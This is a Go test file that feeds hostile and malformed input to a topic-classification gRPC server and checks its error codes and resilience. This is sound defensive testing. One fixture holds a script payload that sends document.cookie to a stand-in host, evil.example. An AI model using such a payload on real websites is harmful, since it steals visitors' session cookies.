package serving_test

import (
	"math"
	"slices"
	"strings"
	"testing"

	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/encoding/protowire"
	"google.golang.org/protobuf/proto"

	"github.com/seed134e4861/topicd/internal/servingtest"
	topicdv1 "github.com/seed134e4861/topicd/proto/topicd/v1"
)

// TestHostileInput sends hostile input through the real RPC path, with the
// flags' default limits (1 MiB texts, 256 texts a batch): each call gets the
// code the README documents or a normal answer, and the server keeps
// serving. Valid UTF-8 that is not blank is always answered, however odd:
// what carries no word gets no feature and abstains.
func TestHostileInput(t *testing.T) {
	c, conn := newTestClient(t)
	ctx := servingtest.Context(t)
	info, err := c.GetModelInfo(ctx, &topicdv1.GetModelInfoRequest{})
	if err != nil {
		t.Fatal(err)
	}
	l := servingtest.DefaultLimits
	m := servingtest.MustSeedModel(t)
	onTopic, err := m.Classify(servingtest.OnTopicText)
	if err != nil || len(onTopic.Topics) == 0 {
		t.Fatalf("Classify(%q) = %v, %v; want some topics", servingtest.OnTopicText, onTopic, err)
	}

	type answers = []*topicdv1.ClassifyResponse
	call := func(req *topicdv1.ClassifyRequest) func() (answers, error) {
		return func() (answers, error) {
			r, err := c.Classify(ctx, req)
			return answers{r}, err
		}
	}
	classify := func(text string) func() (answers, error) { return call(&topicdv1.ClassifyRequest{Text: text}) }
	withThreshold := func(threshold float64) func() (answers, error) {
		return call(&topicdv1.ClassifyRequest{Text: servingtest.OnTopicText, Threshold: proto.Float64(threshold)})
	}
	batch := func(texts ...string) func() (answers, error) {
		return func() (answers, error) {
			r, err := c.ClassifyBatch(ctx, &topicdv1.ClassifyBatchRequest{Texts: texts})
			if err == nil && len(r.GetResults()) != len(texts) {
				t.Errorf("ClassifyBatch(%d texts) gave %d results, want one per text", len(texts), len(r.GetResults()))
			}
			return r.GetResults(), err
		}
	}
	// raw sends ClassifyRequest{text: text} encoded by hand, bypassing the
	// client codec's UTF-8 check.
	raw := func(text string) func() (answers, error) {
		return func() (answers, error) {
			req := rawMessage(protowire.AppendString(protowire.AppendTag(nil, 1, protowire.BytesType), text))
			var resp rawMessage
			if err := conn.Invoke(ctx, classifyMethod, req, &resp, grpc.ForceCodec(rawCodec{})); err != nil {
				return nil, err
			}
			r := new(topicdv1.ClassifyResponse)
			return answers{r}, proto.Unmarshal(resp, r)
		}
	}
	many := func(n int, text string) []string { return slices.Repeat([]string{text}, n) }
	words := strings.Fields(servingtest.OnTopicText)
	between := func(sep string) string { return strings.Join(words, sep) }

	// Checks of answers beyond checkAnswer.
	abstains := func(t *testing.T, r *topicdv1.ClassifyResponse) {
		if !r.GetAbstained() || r.GetTokens() != 0 {
			t.Errorf("got {abstained: %v, tokens: %d}, want abstained with no token", r.GetAbstained(), r.GetTokens())
		}
	}
	// A sentence repeated gets the same topics, though not always in the
	// same order: probabilities that reach 1 tie, and ties go by name.
	asOnTopic := func(t *testing.T, r *topicdv1.ClassifyResponse) {
		if got, want := slices.Sorted(slices.Values(r.GetTopics())), slices.Sorted(slices.Values(onTopic.Topics)); !slices.Equal(got, want) {
			t.Errorf("got topics %q, want %q, those of the sentence alone", r.GetTopics(), onTopic.Topics)
		}
	}
	bounded := func(t *testing.T, r *topicdv1.ClassifyResponse) {
		if size := proto.Size(r); size > 4<<10 {
			t.Errorf("answer of %d bytes, want at most 4 KiB whatever the text's size", size)
		}
		if r.GetAbstained() || len(r.GetScores()) == 0 || len(r.GetScores()[0].GetEvidence()) == 0 {
			t.Errorf("got {abstained: %v, scores: %v}, want an explained answer", r.GetAbstained(), r.GetScores())
		}
	}

	atLimit := servingtest.RepeatTo(servingtest.OnTopicText, l.MaxTextBytes)
	for _, tt := range []struct {
		name       string
		call       func() (answers, error)
		explain    bool
		wantCode   codes.Code
		wantFields []string                                     // the field violations of InvalidArgument
		check      func(*testing.T, *topicdv1.ClassifyResponse) // more checks of each answer
	}{
		{"empty", classify(""), false, codes.InvalidArgument, []string{"text", "html"}, nil}, // neither text nor html
		{"ASCII spaces, tabs, newlines", classify(" \t\n\r\v\f "), false, codes.InvalidArgument, []string{"text"}, nil},
		{"NBSP, ideographic space", classify("\u00a0\u3000\u00a0"), false, codes.InvalidArgument, []string{"text"}, nil},
		{"NEL, em space, line separator", classify("\u0085\u2003\u2028"), false, codes.InvalidArgument, []string{"text"}, nil},
		{"NUL bytes only", classify("\x00\x00\x00"), false, codes.OK, nil, abstains},
		{"NUL bytes between words", classify(between("\x00")), false, codes.OK, nil, asOnTopic},
		{"invalid UTF-8, generated client", classify("Anonymous \xff\xfe attaque"), false, codes.Internal, nil, nil},
		{"invalid UTF-8, raw bytes", raw("Anonymous \xff\xfe attaque"), false, codes.InvalidArgument, []string{"text"}, nil},
		{"valid UTF-8, raw bytes", raw(servingtest.OnTopicText), false, codes.OK, nil, asOnTopic},
		{"max-text-bytes+1", classify(atLimit + "x"), false, codes.InvalidArgument, []string{"text"}, nil},
		{"max-text-bytes", classify(atLimit), false, codes.OK, nil, asOnTopic},
		{"C0 and C1 controls only", classify("\x01\x02\x07\x08\x1b\x7f\u0080\u009b\u009f"), false, codes.OK, nil, abstains},
		{"C0 and C1 controls between words", classify(between(" \x1b\x07\u009b ")), false, codes.OK, nil, asOnTopic},
		{"zero-width and bidi marks only", classify("\u200b\ufeff\u200c\u200d\u200e\u200f\u202a\u202e\u2066\u2069"), false, codes.OK, nil, abstains},
		{"zero-width and bidi marks between words", classify("\ufeff\u202e" + between(" \u200b\u200f ")), false, codes.OK, nil, asOnTopic},
		{"zero-width and bidi marks inside words", classify("Ano\u200bnymous pi\ufeffrate la cam\u200fpagne élec\u202etorale"), false, codes.OK, nil, nil},
		{"emoji only", classify("🔥💀🏴\u200d☠️👩🏽\u200d💻🇫🇷"), false, codes.OK, nil, abstains},
		{"emoji between words", classify(between(" 🔥🏴\u200d☠️ ")), false, codes.OK, nil, asOnTopic},
		{"digits only", classify("0 12 2024 1234567890 ４２ ٣٤"), false, codes.OK, nil, nil},
		{"HTML and scripts around a sentence", classify(`<html><head><script>alert("x");document.location='//evil.example/?c='+document.cookie</script></head>` +
			`<body><p onclick="steal()">` + servingtest.OnTopicText + `</p><script src="evil.js"></script></body></html>`), false, codes.OK, nil, asOnTopic},
		{"1 MiB single word", classify(strings.Repeat("a", l.MaxTextBytes)), false, codes.OK, nil, abstains},
		{"explain on 1 MiB", call(&topicdv1.ClassifyRequest{Text: atLimit, Explain: true}), true, codes.OK, nil, bounded},
		{"threshold NaN", withThreshold(math.NaN()), false, codes.InvalidArgument, []string{"threshold"}, nil},
		{"threshold +Inf", withThreshold(math.Inf(1)), false, codes.InvalidArgument, []string{"threshold"}, nil},
		{"threshold -Inf", withThreshold(math.Inf(-1)), false, codes.InvalidArgument, []string{"threshold"}, nil},
		{"batch with one blank item", batch(servingtest.OnTopicText, "\x00", "\u3000", servingtest.OnTopicText), false, codes.InvalidArgument, []string{"texts[2]"}, nil},
		{"batch with one oversize item", batch(servingtest.OnTopicText, atLimit+"x"), false, codes.InvalidArgument, []string{"texts"}, nil}, // over --max-batch-bytes too, counted on the wire
		{"batch of max-batch+1", batch(many(l.MaxBatch+1, servingtest.OnTopicText)...), false, codes.InvalidArgument, []string{"texts"}, nil},
		{"batch of max-batch", batch(many(l.MaxBatch, servingtest.OnTopicText)...), false, codes.OK, nil, asOnTopic},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got, err := tt.call()
			if code := status.Code(err); code != tt.wantCode {
				t.Fatalf("%s = %v, want code %v", tt.name, err, tt.wantCode)
			}
			if fields := servingtest.FieldViolations(err); !slices.Equal(fields, tt.wantFields) {
				t.Errorf("%s = %v with field violations %q, want %q", tt.name, err, fields, tt.wantFields)
			}
			if err != nil {
				return
			}
			for _, r := range got {
				servingtest.CheckAnswer(t, tt.name, r, info.GetTopics(), info.GetVersion(), tt.explain)
				if tt.check != nil {
					tt.check(t, r)
				}
			}
		})
	}

	got, err := c.Classify(ctx, &topicdv1.ClassifyRequest{Text: servingtest.OnTopicText})
	if err != nil || !slices.Equal(got.GetTopics(), onTopic.Topics) {
		t.Errorf("Classify(%q) after the hostile input = %v, %v; want topics %q: the server still serving", servingtest.OnTopicText, got, err, onTopic.Topics)
	}
}
